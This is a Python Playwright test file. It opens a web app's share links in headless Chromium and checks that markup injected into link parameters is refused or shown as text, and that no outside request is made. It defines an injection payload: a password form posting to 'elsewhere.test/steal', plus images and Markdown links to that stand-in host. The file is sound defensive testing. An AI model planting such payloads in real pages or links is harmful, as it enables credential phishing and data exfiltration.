"""Links carrying markup, opened in a real browser (Debian's headless Chromium driven by Playwright):
every link parameter of every tab — and a parameter named in markup — holds a form, an image from
another host, a Markdown link and a Markdown image; so do a packed text (NAME.z), a packed parameter
named in markup, and a packed parameter holding markup instead of a packed text. Whether the link is
refused (a warning), refused on the way to the queue (a message on the input) or run (the text is the
input), the page shows the characters and nothing else: no element appears that the app did not make,
and no request leaves the page's own server. Screenshots go to tests/screenshots/links-markup-*.png."""

import importlib
import inspect
import os
import shutil
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest

from components import links

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SHOTS = Path(__file__).parent / "screenshots"
# in CI a missing browser is a failure (the launch below raises), elsewhere a skip
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists() and os.environ.get("CI") != "true",
                                reason="Debian's chromium is not installed (apt-get install chromium) and could not be")

ELSEWHERE = "elsewhere.test"
PAYLOAD = (f'<form action="http://{ELSEWHERE}/steal"><input name=p type=password></form>'
           f"<img src=http://{ELSEWHERE}/pixel.png>[x](http://{ELSEWHERE}/link)![x](http://{ELSEWHERE}/image.png)")
# Elements the payload would make, anywhere in the page: none of them is the app's own.
INJECTED = (f"form, input[type=password], img[src*='{ELSEWHERE}'], a[href*='{ELSEWHERE}'], "
            f"[src*='{ELSEWHERE}'], [action*='{ELSEWHERE}']")
# Recorded from the first script on: any such element that ever appears, even for a moment.
WATCH = """(() => {
  window.__injected = [];
  new MutationObserver(() => {
    for (const element of document.querySelectorAll(%r)) window.__injected.push(element.outerHTML.slice(0, 200));
  }).observe(document, {childList: true, subtree: true, attributes: true});
})();""" % INJECTED


def link_specs(app_demo) -> dict:
    """Every tab's link parameters, as the app reads them (the ``/read_link`` endpoint's specs)."""
    read_link = next(fn for fn in app_demo.fns.values() if fn.api_name == "read_link")
    panels = inspect.getclosurevars(inspect.unwrap(read_link.fn)).nonlocals["panels"]
    return {panel.tab: panel.spec for panel in panels}


def free_texts(fields: dict) -> list[str]:
    """The parameters of ``fields`` that take any text (not a choice, not a model source)."""
    return [n for n, f in fields.items() if f.type is str and not f.choices and not n.startswith("source")]


def cases(specs) -> list[tuple[str, str, dict, str]]:
    """(tab, parameters, link query, what the page does with it). Each parameter holds the payload in
    a link of its own — each is read, and refused, by itself — once per distinct parameter (tabs
    share their views' controls); the text parameters of a tab (its inputs and controls that take any
    text) hold it together, in a link that runs the tab, and the model slots in one that is refused on the way to
    the queue."""
    found, seen = [], set()
    for tab, spec in specs.items():
        fields = {**spec.inputs, **spec.controls}
        texts = free_texts(fields)
        sources = [n for n in spec.inputs if n.startswith("source")]
        found.append((tab, " ".join(texts), {"tab": tab, **dict.fromkeys(texts, PAYLOAD)}, "runs"))
        found.append((tab, " ".join(sources), {"tab": tab, **dict.fromkeys(sources, PAYLOAD)}, "source"))
        for name, field in fields.items():
            if name not in texts + sources and (name, field) not in seen:
                seen.add((name, field))
                found.append((tab, name, {"tab": tab, name: PAYLOAD}, "refused"))
    tab = next(iter(specs))
    texts = free_texts(specs[tab].inputs)
    found += [(tab, "tab", {"tab": PAYLOAD}, "refused"), (tab, "show", {"tab": tab, "show": PAYLOAD}, "refused"),
              (tab, "a parameter named in markup", {"tab": tab, PAYLOAD: "1"}, "refused"),
              # packed texts (NAME.z) unpack into the same checks
              (tab, "packed " + " ".join(texts), {"tab": tab, **{n + links.PACKED: links.pack(PAYLOAD) for n in texts}}, "runs"),
              (tab, "a packed parameter named in markup", {"tab": tab, PAYLOAD + links.PACKED: links.pack("Bob")}, "refused"),
              (tab, "a packed text that is not one", {"tab": tab, texts[0] + links.PACKED: PAYLOAD}, "refused")]
    return found


@pytest.fixture(scope="module")
def browser_page(app_url):
    # in CI the browser's driver must be there too: an import error fails the test rather than skipping it
    playwright = importlib.import_module("playwright.sync_api") if os.environ.get("CI") == "true" \
        else pytest.importorskip("playwright.sync_api")
    own = urlsplit(app_url).netloc
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM,
                                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.add_init_script(WATCH)
        page.requests_elsewhere = []
        page.on("request", lambda request: urlsplit(request.url).scheme in ("http", "https", "ws", "wss")
                and urlsplit(request.url).netloc != own and page.requests_elsewhere.append(request.url))
        page.route(lambda url: ELSEWHERE in urlsplit(url).netloc, lambda route: route.abort())  # recorded, never sent
        yield page
        browser.close()


def settled(page, outcome: str) -> None:
    """Wait (a generous bound: only a hang fails it) until the page has done what the link asks."""
    panel = page.locator("div[role='tabpanel']:visible")
    if outcome == "refused":  # a warning toast, the page as usual
        page.get_by_text("This link cannot be opened").first.wait_for(timeout=60_000)
    elif outcome == "source":  # refused before it is queued: a message on the model slot
        page.get_by_text("is not a model this server loads").first.wait_for(timeout=60_000)
    else:  # the tab ran on the payload and drew its maps
        panel.locator(".js-plotly-plot").first.wait_for(timeout=120_000)


def test_links_carrying_markup_inject_nothing_and_fetch_nothing_elsewhere(browser_page, app_url, app_demo):
    page, checked = browser_page, []
    SHOTS.mkdir(exist_ok=True)
    for tab, name, query, outcome in cases(link_specs(app_demo)):
        page.goto("about:blank")  # the last page's streams close before the next opens
        page.goto(f"{app_url}?{urlencode(query)}")
        settled(page, outcome)
        injected = page.evaluate("() => [...window.__injected, ...[...document.querySelectorAll(%r)]"
                                 ".map(e => e.outerHTML.slice(0, 200))]" % INJECTED)
        assert not injected, (tab, name, injected)
        assert not page.requests_elsewhere, (tab, name, page.requests_elsewhere)
        if outcome == "runs" or name == "tab":  # look at them: the payload shown as text
            packed = "-packed" if name.startswith("packed") else ""
            page.screenshot(path=str(SHOTS / f"links-markup-{tab}-{outcome}{packed}.png"), timeout=120_000)
        checked.append((tab, name, outcome))
    outcomes = {outcome for *_, outcome in checked}
    assert outcomes == {"refused", "source", "runs"}  # each way a page treats a link was taken
    assert {tab for tab, _, outcome in checked if outcome == "runs"} == set(link_specs(app_demo))
